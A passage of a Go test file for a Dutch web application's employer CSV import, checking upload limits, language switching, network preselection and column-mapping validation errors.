	doc := env.Login(t, apptest.Beheerder).Get("/import").Doc(t)
	if n := doc.Find(`select[name=netwerk] option[value!=""]`).Length(); n != apptest.Scalar[int](t, env, `SELECT count(*)::int FROM networks`) {
		t.Errorf("beheerder chooses among %d networks", n)
	}
	// A user keeps at most five uploads.
	for i := 0; i < 6; i++ {
		upload(t, env, coord, net1, "fouten.csv", testdata(t, "fouten.csv"))
	}
	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM import_uploads WHERE user_id = (SELECT id FROM users WHERE email = $1)`,
		apptest.Coordinator); n != 5 {
		t.Errorf("the coordinator keeps %d uploads", n)
	}
	// In English.
	u, _ := url.Parse(env.URL("/"))
	coord.HTTP.Jar.SetCookies(u, []*http.Cookie{{Name: "taal", Value: "en"}})
	if got := apptest.Text(coord.Get("/import").Doc(t).Find("h1")); got != "Import employers" {
		t.Errorf("English heading %q", got)
	}
	coord.HTTP.Jar.SetCookies(u, []*http.Cookie{{Name: "taal", Value: "nl"}})
	// The coordinator of one network is not asked.
	if doc := coord.Get("/import").Doc(t); doc.Find(`select[name=netwerk]`).Length() != 0 ||
		doc.Find(`input[type=hidden][name=netwerk]`).AttrOr("value", "") != strconv.FormatInt(net1, 10) {
		t.Errorf("the coordinator's network is not preset")
	}
}

// TestMappingErrors: a field twice and no employer name are refused with
// the choices kept.
func TestMappingErrors(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	coord := env.Login(t, apptest.Coordinator)
	up := upload(t, env, coord, networkAt(t, env, 1), "fouten.csv", testdata(t, "fouten.csv"))
	form := apptest.FormValues(coord.Get(up+"/koppelen").Doc(t), `form[action$="/koppelen"]`)
	form.Set("kolom-0", "")         // no employer name
	form.Set("kolom-2", "postcode") // postcode twice (column E is postcode)
	form.Set("kolom-3", "bestaat-niet")
	res := coord.PostForm(up+"/koppelen", form)
	apptest.WantStatus(t, res, http.StatusUnprocessableEntity)
	doc := res.Doc(t)
	for id, want := range map[string]string{
		"f-koppeling": "Koppel een kolom aan Werkgever: naam.",
		"f-kolom-3":   "Kies een veld uit de lijst",
		"f-kolom-4":   "Werkgever: Postcode is al gekoppeld aan kolom C.",
	} {
		if doc.Find(`.error-summary a[href="#`+id+`"]`).Length() != 1 || !strings.Contains(apptest.Text(doc.Find(".error-summary")), want) {
			t.Errorf("error summary lacks %s: %q", id, want)
		}
	}
	if doc.Find(`#f-kolom-2 option[value=postcode][selected]`).Length() != 1 {
		t.Errorf("the choice is not kept")
	}
	// The preview waits for a good mapping.
	if res := coord.Get(up + "/voorbeeld"); res.StatusCode != http.StatusOK {
		t.Errorf("preview with the guessed mapping: %d", res.StatusCode)
	}
}
